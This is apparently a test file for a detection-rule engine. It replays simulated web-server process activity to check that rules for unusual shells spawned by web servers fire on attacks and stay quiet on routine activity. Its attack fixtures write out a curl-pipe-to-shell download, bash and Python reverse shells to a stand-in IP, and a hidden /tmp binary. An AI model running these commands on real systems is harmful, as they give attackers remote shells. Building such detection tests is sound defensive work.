/// <reference types="vite/client" />
import { beforeAll, describe, expect, it } from "vitest";
import { normalizeEvent } from "../event/normalize";
import type { EcsEvent } from "../event/types";
import { stripLocations } from "../kql/ast";
import { parseKql } from "../kql/parse-kql";
import { printKql } from "../kql/print-kql";
import { RULE_FORMAT_LOADERS } from "../rules/formats";
import { DEFAULT_RULE_LIMITS, loadRules } from "../rules/load-rules";
import { buildRuleSet } from "../rules/rule-set";
import { evaluateStateful, type StatefulCandidate } from "../stateful/evaluate";
import { MemoryStateStore } from "../stateful/memory-store";
import { DAY_MS } from "../stateful/types";
import { renderGuideTemplate } from "./guide-template";
import { loadNativeRuleFile } from "./native-rule-format";

/**
 * Invariants over every shipped native rule (STYLE F8, detection-rules' test_all_rules), and the
 * seed rules judged on a simulated fleet: eight days of routine web-server activity, then a day
 * with attacks. Each rule must fire where its seed document says it should and stay quiet on the
 * routine.
 */

const glob = (pattern: Record<string, string>) => Object.entries(pattern).map(([key, text]) => ({ path: key.replace(/^(\.\.\/)+/, ""), text }));
const files = glob(import.meta.glob("../../../rules/native/*.yml", { query: "?raw", import: "default", eager: true }) as Record<string, string>);
const elasticFiles = glob(import.meta.glob("../../../rules/elastic/*.toml", { query: "?raw", import: "default", eager: true }) as Record<string, string>);
const context = { limits: DEFAULT_RULE_LIMITS, config: { placeholders: {} } };

const UNFAMILIAR = "ba8fb9be-2768-4a43-85ba-b6ab15222c82";
const UNUSUAL = "d3b7a404-396f-4dfe-bcb6-6f54486a16cf";
const ELASTIC_NEW_TERMS = "65f28c4d-cfc8-4847-9cca-f2fb1e319151";

describe("rules/native", () => {
  it("ships the seed rules", () => {
    expect(files.map((f) => f.path).sort()).toEqual([
      "rules/native/unfamiliar_process_created_by_web_application.yml",
      "rules/native/unusual_process_spawned_from_web_server_parent.yml",
    ]);
  });

  it("all load through the registry with zero errors and warnings, unique ids, and run", () => {
    const result = loadRules(files, { loaders: RULE_FORMAT_LOADERS });
    expect(result.errors.map((e) => e.message)).toEqual([]);
    expect(result.warnings.map((e) => e.message)).toEqual([]);
    expect(result.rules).toHaveLength(files.length);
    expect(new Set(result.rules.map((r) => r.meta.id)).size).toBe(files.length);
    for (const r of result.rules) {
      expect(r.detector, r.source.path).not.toBeNull();
      expect(r.meta.format, r.source.path).toBe("native");
    }
  });

  describe.each(files)("$path", ({ path, text }) => {
    const loaded = loadNativeRuleFile({ path, text }, context);
    const model = loaded.models[0]!;

    it("file name, origin comment, required metadata, ATT&CK, guide", () => {
      expect(path).toMatch(/^rules\/native\/[a-z0-9_]+\.yml$/);
      expect(path).toBe(`rules/native/${model.name.toLowerCase().replace(/[^a-z0-9]+/g, "_")}.yml`);
      expect(text).toMatch(/^# .+\n#\n# Origin: /);
      expect(model.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
      expect(model.mitre.length).toBeGreaterThan(0);
      expect(model.falsePositives.length).toBeGreaterThan(0);
      expect(model.references.length).toBeGreaterThan(0);
      expect(model.guide.whatHappened).toMatch(/\{\{ process\./);
      expect(model.guide.goal).toBeTruthy();
      expect(model.guide.strategy).toBeTruthy();
      expect(model.guide.triage.length).toBeGreaterThanOrEqual(3);
      expect(model.guide.response.length).toBeGreaterThanOrEqual(2);
    });

    it("the query is canonical: print(parse(q)) differs only in layout and is a fixed point", () => {
      const layoutFree = (q: string) => q.replace(/\s+/g, " ").replace(/([([]) /g, "$1").replace(/ ([)\]])/g, "$1").trim();
      const printed = printKql(parseKql(model.query));
      expect(layoutFree(printed)).toBe(layoutFree(model.query));
      expect(printKql(parseKql(printed))).toBe(printed);
      expect(stripLocations(parseKql(printed))).toEqual(stripLocations(parseKql(model.query)));
    });
  });

  it("Unfamiliar process created by web application (seed 000): new value of the process name per host, 7-day learning, TA0002 / T1190", () => {
    const model = loadNativeRuleFile(files.find((f) => f.path.includes("unfamiliar"))!, context).models[0]!;
    expect(model).toMatchObject({
      id: UNFAMILIAR,
      type: "new_value",
      severity: "medium",
      riskScore: 47,
      newValue: { fields: ["process.name"], groupBy: ["host.name"], learningMs: 7 * DAY_MS, forgetAfterMs: 30 * DAY_MS },
    });
    expect(model.mitre.map((m) => [m.tactic.id, m.technique?.id])).toEqual([
      ["TA0001", "T1190"],
      ["TA0002", undefined],
    ]);
    expect(model.guide.goal).toBe("Detect shell utilities, HTTP utilities, or shells spawned by a web server.");
    expect(model.guide.triage[0]).toMatch(/^Determine whether or not there is an approved purpose for your web application to execute the process `\{\{ process.name \}\}`/);
    expect(renderGuideTemplate(model.guide.whatHappened!, { process: { name: "curl", command_line: "curl -s x", parent: { name: "php-fpm8.2" } }, host: { name: "web02" } })).toBe(
      "The web server process `php-fpm8.2` on `web02` executed the command `curl`, which may indicate the application is vulnerable to remote code execution (RCE): `curl -s x`",
    );
  });

  it("Unusual Process Spawned from Web Server Parent (seed 004): rare over 7 days by parent, program and directory; T1059.004, T1505.003, T1071", () => {
    const model = loadNativeRuleFile(files.find((f) => f.path.includes("unusual"))!, context).models[0]!;
    expect(model).toMatchObject({ id: UNUSUAL, type: "rare", severity: "low", rare: { groupBy: ["process.parent.executable", "process.executable", "process.working_directory"], windowDays: 7, conditionText: "count < 5 and distinct(host.name) == 1", learningMs: 7 * DAY_MS } });
    expect(model.mitre.map((m) => m.subtechnique?.id ?? m.technique?.id)).toEqual(["T1059.004", "T1505.003", "T1071"]);
  });
});

// ---- the scenario -------------------------------------------------------------------------------

const T0 = Date.UTC(2026, 10, 2); // a Monday
const HOUR = 3_600_000;

interface Spawn {
  t: number;
  host: string;
  parent: { exe: string; cmd: string };
  exe: string;
  cmd: string;
  cwd: string;
  user?: string;
  /** Process group leader (Elastic Defend), when the parent is not the web server itself. */
  leader?: string;
  label?: string;
}

const SERVERS = {
  apache: { exe: "/usr/sbin/apache2", cmd: "/usr/sbin/apache2 -k start" },
  phpFpm: { exe: "/usr/sbin/php-fpm8.2", cmd: "php-fpm: pool www" },
  tomcat: { exe: "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", cmd: "/usr/lib/jvm/java-17-openjdk-amd64/bin/java -Dcatalina.base=/opt/tomcat org.apache.catalina.startup.Bootstrap start" },
  uwsgi: { exe: "/usr/bin/uwsgi", cmd: "/usr/bin/uwsgi --ini /etc/uwsgi/apps-enabled/api.ini" },
};

function ecs(s: Spawn): unknown {
  return {
    "@timestamp": new Date(s.t).toISOString(),
    event: { category: ["process"], type: ["start"], action: "exec", kind: "event" },
    host: { name: s.host, id: `id-${s.host}`, os: { type: "linux" } },
    user: { name: s.user ?? "www-data" },
    process: {
      executable: s.exe,
      command_line: s.cmd,
      working_directory: s.cwd,
      parent: { executable: s.parent.exe, command_line: s.parent.cmd },
      ...(s.leader && { group_leader: { executable: s.leader, name: s.leader.slice(s.leader.lastIndexOf("/") + 1) } }),
    },
  };
}

/** Eight days of what these servers do every day, and day 8 too. */
function routine(days: number): Spawn[] {
  const out: Spawn[] = [];
  for (let h = 0; h < days * 24; h++) {
    const t = T0 + h * HOUR;
    out.push({ t: t + 5 * 60_000, host: "web01", parent: SERVERS.apache, exe: "/bin/sh", cmd: "/bin/sh -c /usr/local/bin/healthcheck --quiet", cwd: "/var/www/html" });
    if (h % 8 === 3) out.push({ t: t + 20 * 60_000, host: "web01", parent: SERVERS.apache, exe: "/bin/sh", cmd: '/bin/sh -c "/usr/sbin/sendmail -t -i"', cwd: "/var/www/html" });
    if (h % 2 === 0) {
      out.push({ t: t + 11 * 60_000, host: "web02", parent: SERVERS.phpFpm, exe: "/bin/sh", cmd: '/bin/sh -c "/usr/bin/convert /var/www/app/storage/upload.png -resize 800x600 /var/www/app/storage/thumb.png"', cwd: "/var/www/app/public" });
      out.push({ t: t + 11 * 60_000 + 30, host: "web02", parent: { exe: "/bin/sh", cmd: "/bin/sh -c convert" }, leader: SERVERS.phpFpm.exe, exe: "/usr/bin/convert", cmd: "/usr/bin/convert /var/www/app/storage/upload.png -resize 800x600 /var/www/app/storage/thumb.png", cwd: "/var/www/app/public" });
    }
    if (h % 3 === 0) out.push({ t: t + 30 * 60_000, host: "app01", parent: SERVERS.tomcat, exe: "/bin/sh", cmd: '/bin/sh -c "df -h /opt/tomcat"', cwd: "/opt/tomcat", user: "tomcat" });
    if (h % 4 === 0) {
      out.push({ t: t + 45 * 60_000, host: "api01", parent: SERVERS.uwsgi, exe: "/bin/sh", cmd: "/bin/sh -c uptime", cwd: "/srv/api" });
      out.push({ t: t + 45 * 60_000 + 20, host: "api01", parent: { exe: "/bin/sh", cmd: "/bin/sh -c uptime" }, leader: SERVERS.uwsgi.exe, exe: "/usr/bin/uptime", cmd: "uptime", cwd: "/srv/api" });
    }
    if (h % 24 === 2) out.push({ t: t + 2 * 60_000, host: "web01", parent: SERVERS.apache, exe: "/usr/bin/php8.2", cmd: "/usr/bin/php8.2 /var/www/html/wp-cron.php", cwd: "/var/www/html" });
  }
  return out;
}

/** Day 8: the attacks of the scenario (times in the afternoon). */
function attacks(): Spawn[] {
  const day8 = T0 + 8 * DAY_MS;
  const curl = "curl -fsSL http://203.0.113.7/x.sh | sh";
  return [
    { label: "php-fpm sh -c curl|sh", t: day8 + 13 * HOUR, host: "web02", parent: SERVERS.phpFpm, exe: "/bin/sh", cmd: `/bin/sh -c "${curl}"`, cwd: "/var/www/app/public" },
    { label: "php-fpm → sh → curl", t: day8 + 13 * HOUR + 40, host: "web02", parent: { exe: "/bin/sh", cmd: `/bin/sh -c "${curl}"` }, leader: SERVERS.phpFpm.exe, exe: "/usr/bin/curl", cmd: "curl -fsSL http://203.0.113.7/x.sh", cwd: "/var/www/app/public" },
    { label: "php-fpm → sh → sh", t: day8 + 13 * HOUR + 41, host: "web02", parent: { exe: "/bin/sh", cmd: `/bin/sh -c "${curl}"` }, leader: SERVERS.phpFpm.exe, exe: "/bin/sh", cmd: "sh", cwd: "/var/www/app/public" },
    { label: "apache2 bash in /dev/shm", t: day8 + 14 * HOUR, host: "web01", parent: SERVERS.apache, exe: "/bin/bash", cmd: "/bin/bash -c ./.k", cwd: "/dev/shm" },
    { label: "tomcat reverse shell", t: day8 + 15 * HOUR, host: "app01", parent: SERVERS.tomcat, exe: "/bin/bash", cmd: '/bin/bash -c "bash -i >& /dev/tcp/198.51.100.4/4444 0>&1"', cwd: "/opt/tomcat", user: "tomcat" },
    { label: "uwsgi python reverse shell", t: day8 + 16 * HOUR, host: "api01", parent: SERVERS.uwsgi, exe: "/usr/bin/python3.11", cmd: `/usr/bin/python3.11 -c "import socket,subprocess,os;s=socket.socket();s.connect(('198.51.100.4',443));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])"`, cwd: "/srv/api" },
    { label: "apache2 once-off /tmp binary", t: day8 + 17 * HOUR, host: "web01", parent: SERVERS.apache, exe: "/tmp/.ICE-unix/kdevtmpfsi", cmd: "/tmp/.ICE-unix/kdevtmpfsi", cwd: "/var/www/html" },
  ];
}

describe("seed rules on eight days of routine web-server activity, then a day of attacks", () => {
  async function replay(): Promise<Map<string, { labels: string[]; days: number[] }>> {
    const loaded = loadRules([...files, ...elasticFiles], { loaders: RULE_FORMAT_LOADERS });
    if (loaded.errors.length > 0) throw loaded.errors[0]!;
    const ruleSet = buildRuleSet(loaded.rules);
    const spawns = [...routine(9), ...attacks()].sort((a, b) => a.t - b.t);
    const store = new MemoryStateStore();
    const fired = new Map<string, { labels: string[]; days: number[] }>();
    const record = (ruleId: string, s: Spawn) => {
      const entry = fired.get(ruleId) ?? { labels: [], days: [] };
      entry.labels.push(s.label ?? `routine ${s.host} ${s.cmd}`);
      entry.days.push(Math.floor((s.t - T0) / DAY_MS));
      fired.set(ruleId, entry);
    };
    // Ingested a batch per hour, as a shipper would send them.
    for (let start = 0; start < spawns.length; ) {
      const hour = Math.floor(spawns[start]!.t / HOUR);
      let end = start;
      while (end < spawns.length && Math.floor(spawns[end]!.t / HOUR) === hour) end++;
      const batch = spawns.slice(start, end);
      start = end;
      const candidates: StatefulCandidate[] = [];
      batch.forEach((s, index) => {
        const normalized = normalizeEvent(ecs(s), { receivedAt: new Date(s.t + 1000) });
        if (!normalized.ok) throw new Error(normalized.error);
        const event: EcsEvent = normalized.event;
        for (const m of ruleSet.match(event)) {
          if (m.stateful) candidates.push({ index, event, match: m, ruleId: m.rule.id, time: s.t });
          else record(m.rule.id, s);
        }
      });
      for (const v of await evaluateStateful(candidates, store)) if (v.alert) record(v.candidate.ruleId, batch[v.candidate.index]!);
    }
    return fired;
  }

  let replayed: Map<string, { labels: string[]; days: number[] }>;
  beforeAll(async () => {
    replayed = await replay();
  });

  it("Unfamiliar process created by web application fires on new shells and utilities, never on the routine", () => {
    const fired = replayed.get(UNFAMILIAR)!;
    expect(fired.labels).toEqual(["php-fpm → sh → curl", "apache2 bash in /dev/shm", "tomcat reverse shell"]);
  });

  it("Unusual Process Spawned from Web Server Parent fires on the rare combinations, never on the hourly and daily routine", () => {
    const fired = replayed.get(UNUSUAL)!;
    expect(fired.labels).toEqual(["apache2 bash in /dev/shm", "tomcat reverse shell", "uwsgi python reverse shell", "apache2 once-off /tmp binary"]);
  });

  it("Elastic's new_terms rule catches the attacker's command line under a familiar shell (the layer the other two miss)", () => {
    const fired = replayed.get(ELASTIC_NEW_TERMS)!;
    // new_terms has no learning: each routine command line is new once, on day 0; nothing routine after.
    expect(new Set(fired.days.filter((_, i) => fired.labels[i]!.startsWith("routine")))).toEqual(new Set([0]));
    expect(fired.labels.filter((l) => !l.startsWith("routine"))).toEqual(["php-fpm sh -c curl|sh", "apache2 bash in /dev/shm"]);
  });
});
